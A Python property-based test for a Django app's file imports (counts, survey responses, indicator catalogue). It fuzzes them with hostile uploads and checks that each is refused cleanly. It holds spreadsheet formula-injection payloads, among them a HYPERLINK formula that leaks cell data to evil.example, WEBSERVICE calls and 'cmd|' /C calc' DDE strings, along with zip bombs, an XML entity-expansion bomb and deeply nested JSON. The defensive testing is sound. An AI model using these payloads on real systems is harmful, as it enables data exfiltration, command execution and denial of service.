"""Acceptance 2 of issue 14: a property-based fuzz of every import (counts, survey responses,
the indicator catalogue) with malformed, oversized and hostile files: zip bombs, damaged and
foreign archives, wrong encodings, formulas such as =HYPERLINK, huge cells, many columns,
too many rows, random bytes, JSON of the wrong shape. Each file is refused with a clear
message (a form error, a 413 page or a failed job with its reasons; never "Something went
wrong" and never a server error), nothing is written, and the next job runs.

The limits are made small for the run, so that hostile sizes are quick to make; the
regression tests in tests/test_uploads.py use the real limits."""

import csv
import io
import json
import random
import zipfile
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import Max
from django.test import Client
from django.urls import reverse
from django.utils import translation
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import Workbook

from spona.accounts.models import Role
from spona.core.uploads import too_large
from spona.institutions.models import InstitutionType
from spona.jobs.models import Job, JobStatus
from spona.jobs.services import UNEXPECTED
from spona.prevention import services as prevention
from spona.prevention.models import AggregateCount, Settlement
from spona.screening.catalogue import KEYS
from spona.screening.models import IndicatorCatalogue
from spona.screening.services import catalogue_load_default
from spona.surveys import demo_data, instruments
from spona.surveys import services as surveys
from spona.surveys.models import SurveyResponse
from tests.factories import InstitutionFactory, UserFactory

pytestmark = pytest.mark.django_db

COUNTS = ["municipality_code", "settlement", "group", "period", "count"]
SURVEY = list(instruments.STANDARD_COLUMNS.values())
GOOD_ROW = ["70939", "Пирот", "women-20-30", "2025", "12"]
LIMIT_BYTES = 200_000
LIMIT_UNPACKED = 2 * 1024 * 1024
LIMIT_ROWS, LIMIT_COLUMNS, LIMIT_CELL = 300, 60, 300


# Hostile cells and files -------------------------------------------------------------------

formula = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Пирот")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+HYPERLINK(1)",
        "-2+3+cmd|' /C calc'!A0",
        "=1+1",
        '=WEBSERVICE("http://evil.example")',
    ]
)
huge_cell = st.integers(LIMIT_CELL + 1, LIMIT_CELL * 8).map(lambda n: "Пирот-" * (n // 6 + 1))
hostile_cell = st.one_of(formula, huge_cell)
printable = st.characters(blacklist_categories=("Cs", "Cc"))
plain_cell = st.one_of(st.sampled_from(GOOD_ROW), st.text(printable, max_size=12))


@st.composite
def hostile_table(draw: st.DrawFn) -> list[list[str]]:
    """A table with a valid-looking header and at least one hostile thing in it."""
    header = draw(st.sampled_from([COUNTS, SURVEY, COUNTS + SURVEY]))
    rows = [list(header)]
    for _ in range(draw(st.integers(0, 6))):
        rows.append([draw(plain_cell) for _ in header])
    how = draw(st.sampled_from(["cell", "columns", "rows", "header"]))
    if how == "cell" or len(rows) == 1:
        row = draw(st.integers(1, len(rows) - 1)) if len(rows) > 1 else 0
        if row == 0:
            rows.append(list(GOOD_ROW))
            row = len(rows) - 1
        rows[row][draw(st.integers(0, len(rows[row]) - 1))] = draw(hostile_cell)
    elif how == "columns":
        rows.append(GOOD_ROW + ["x"] * draw(st.integers(LIMIT_COLUMNS, LIMIT_COLUMNS * 3)))
    elif how == "rows":
        rows += [list(GOOD_ROW)] * draw(st.integers(LIMIT_ROWS + 1, LIMIT_ROWS + 50))
        rows[-1][0] = draw(hostile_cell)  # were the row limit ever missed, this still fails
    else:
        rows[0][draw(st.integers(0, len(rows[0]) - 1))] = draw(hostile_cell)
    return rows


def _csv(rows: list[list[str]], delimiter: str) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    return out.getvalue()


def _xlsx(rows: list[list[str]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@st.composite
def hostile_csv(draw: st.DrawFn) -> tuple[str, bytes]:
    text = _csv(draw(hostile_table()), draw(st.sampled_from([",", ";", "\t"])))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1250", "utf-16", "latin-1"]))
    name = draw(st.sampled_from(["counts.csv", "export.xlsx", "data.txt", "x"]))
    return name, text.encode(encoding, errors="replace")


@st.composite
def hostile_xlsx(draw: st.DrawFn) -> tuple[str, bytes]:
    return draw(st.sampled_from(["counts.xlsx", "counts.csv"])), _xlsx(draw(hostile_table()))


@st.composite
def damaged_xlsx(draw: st.DrawFn) -> tuple[str, bytes]:
    """A hostile workbook, then cut short or with bytes changed."""
    content = bytearray(_xlsx(draw(hostile_table())))
    # positions drawn independently of the size (a saved workbook's size varies with its
    # timestamp, and Hypothesis must be able to replay the same draws)
    position = st.integers(0, 2**20).map(lambda n: n % len(content))
    if draw(st.booleans()):
        content = content[: draw(position)]
    else:
        for _ in range(draw(st.integers(1, 20))):
            content[draw(position)] = draw(st.integers(0, 255))
    return "counts.xlsx", bytes(content)


@st.composite
def zip_bomb(draw: st.DrawFn) -> tuple[str, bytes]:
    """A workbook whose sheet unpacks past the limit, or any member packed too tightly."""
    unpacked = draw(st.integers(LIMIT_UNPACKED + 1, LIMIT_UNPACKED * 3))
    member = draw(st.sampled_from(["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"]))
    base = zipfile.ZipFile(io.BytesIO(_xlsx([COUNTS, GOOD_ROW])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in base.infolist():
            if info.filename != member:
                bomb.writestr(info.filename, base.read(info.filename))
        row = b'<row r="2"><c r="A2"><v>1</v></c></row>'
        bomb.writestr(member, b"<worksheet><sheetData>" + row * (unpacked // len(row)))
    return "counts.xlsx", out.getvalue()


@st.composite
def foreign_zip(draw: st.DrawFn) -> tuple[str, bytes]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for index in range(draw(st.integers(0, 4))):
            name = draw(st.sampled_from(["a.txt", "xl/x.bin", "word/document.xml", "mimetype"]))
            archive.writestr(f"{index}-{name}", draw(st.binary(max_size=200)))
        if draw(st.booleans()):  # a workbook's frame with an XML bomb for a sheet
            archive.writestr("[Content_Types].xml", b"<Types/>")
            archive.writestr(
                "xl/worksheets/sheet1.xml",
                b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
            )
    return draw(st.sampled_from(["counts.xlsx", "counts.zip", "c.csv"])), out.getvalue()


@st.composite
def oversized(draw: st.DrawFn) -> tuple[str, bytes]:
    size = draw(st.integers(LIMIT_BYTES + 1, LIMIT_BYTES * 2))
    line = (",".join(GOOD_ROW) + "\n").encode()
    return draw(st.sampled_from(["counts.csv", "c.json"])), (line * (size // len(line) + 1))


random_bytes = st.tuples(
    st.sampled_from(["counts.csv", "counts.xlsx", "catalogue.json", "file"]), st.binary()
)

json_value = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=10),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=20,
)


@st.composite
def hostile_json(draw: st.DrawFn) -> tuple[str, bytes]:
    """Catalogues of the wrong shape: every key there, each holding the wrong thing; or
    nesting deeper than any parser should follow."""
    if draw(st.booleans()):
        document = {key: draw(json_value) for key in KEYS}
        document["format"] = "spona-indicator-catalogue/2"
        return "catalogue.json", json.dumps(document).encode()
    depth = draw(st.integers(10_000, 60_000))
    return "catalogue.json", b"[" * depth + b"]" * depth


hostile_file = st.one_of(
    random_bytes,
    hostile_csv(),
    hostile_xlsx(),
    damaged_xlsx(),
    zip_bomb(),
    foreign_zip(),
    oversized(),
    hostile_json(),
)


# The three imports ---------------------------------------------------------------------------


@pytest.fixture
def importers(municipality, settings):
    settings.UPLOAD_MAX_BYTES = LIMIT_BYTES
    settings.XLSX_MAX_UNCOMPRESSED_BYTES = LIMIT_UNPACKED
    settings.UPLOAD_MAX_ROWS = LIMIT_ROWS
    settings.UPLOAD_MAX_COLUMNS = LIMIT_COLUMNS
    settings.UPLOAD_MAX_CELL_CHARS = LIMIT_CELL
    Settlement.objects.create(municipality=municipality, name="Пирот")
    prevention.default_groups(municipality)
    local = InstitutionFactory(type=InstitutionType.LOCAL_GOVERNMENT, municipality=municipality)
    coordinator = UserFactory(role=Role.COORDINATOR, institution=local)
    citizens = next(i for i in surveys.instruments_load_default() if i.code == "citizens")
    wave = surveys.wave_create(
        user=coordinator,
        municipalities=[municipality],
        instrument=citizens,
        name="Талас 2026",
        starts_on=date(2026, 6, 1),
        ends_on=date(2026, 8, 1),
    )
    catalogue_load_default()
    browsers = {}
    for key, user in [
        ("counts", coordinator),
        ("survey", coordinator),
        ("catalogue", UserFactory(role=Role.SYSTEM_ADMIN, institution=None)),
    ]:
        browsers[key] = Client()
        browsers[key].force_login(user)
    return {
        "browsers": browsers,
        "urls": {
            "counts": reverse("prevention:count_import"),
            "survey": reverse("surveys:wave_import", args=[wave.pk]),
            "catalogue": reverse("screening:catalogue"),
        },
        "wave": wave,
        "instrument": citizens,
    }


def _written() -> tuple[int, int, int]:
    return (
        AggregateCount.objects.count(),
        SurveyResponse.objects.count(),
        IndicatorCatalogue.objects.count(),
    )


def refused_clearly(response, jobs_before: int, importer: str, language: str) -> str:
    """How the file was refused: a form error, the 413 page or a failed job; fails the test
    on anything else."""
    status = response.status_code
    if status == 413:
        with translation.override(language):
            assert too_large() in response.content.decode()
        return "413"
    if status == 200:
        errors = response.context["form"].errors.get("file")
        assert errors, response.context["form"].errors
        assert all(isinstance(e, str) and len(e) > 10 for e in errors)
        assert not Job.objects.filter(pk__gt=jobs_before).exists()
        return "form"
    assert status == 302, status
    assert importer != "catalogue"  # a catalogue is loaded at once, never by a job
    job = Job.objects.latest("pk")
    assert job.pk > jobs_before
    assert job.status == JobStatus.FAILED, (job.status, job.result)
    assert job.errors
    assert str(UNEXPECTED) not in job.errors, job.errors
    assert "content" not in job.payload
    return "job"


def test_acceptance_2_hostile_files_fuzzed_against_every_import(importers) -> None:
    outcomes: dict[str, int] = {}
    before = _written()

    @hypothesis_settings(
        max_examples=120,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(upload=hostile_file)
    def every_import_refuses(upload: tuple[str, bytes]) -> None:
        name, content = upload
        for importer, url in importers["urls"].items():
            jobs_before = Job.objects.aggregate(last=Max("pk"))
            language = random.choice(["en", "sr", "sr-latn"])
            response = importers["browsers"][importer].post(
                url, {"file": SimpleUploadedFile(name, content)}, HTTP_ACCEPT_LANGUAGE=language
            )
            how = refused_clearly(response, jobs_before["last"] or 0, importer, language)
            outcomes[how] = outcomes.get(how, 0) + 1
            assert _written() == before, (importer, name, content[:200])

    every_import_refuses()
    print("outcomes:", outcomes)  # noqa: T201 - shown with -s
    # every way of refusing was taken
    assert set(outcomes) == {"413", "form", "job"}, outcomes

    # and the next (good) jobs run
    counts = importers["browsers"]["counts"].post(
        importers["urls"]["counts"],
        {"file": SimpleUploadedFile("c.csv", _csv([COUNTS, GOOD_ROW], ",").encode())},
    )
    assert counts.status_code == 302
    assert Job.objects.latest("pk").status == JobStatus.SUCCEEDED
    rows = demo_data.generate_wave(
        importers["instrument"].data, municipality_code="70939", n=40, seed=3
    )
    survey = importers["browsers"]["survey"].post(
        importers["urls"]["survey"],
        {"file": SimpleUploadedFile("k.csv", demo_data.write_csv(rows))},
    )
    assert survey.status_code == 302
    assert Job.objects.latest("pk").status == JobStatus.SUCCEEDED
    assert (AggregateCount.objects.count(), SurveyResponse.objects.count()) == (1, 40)
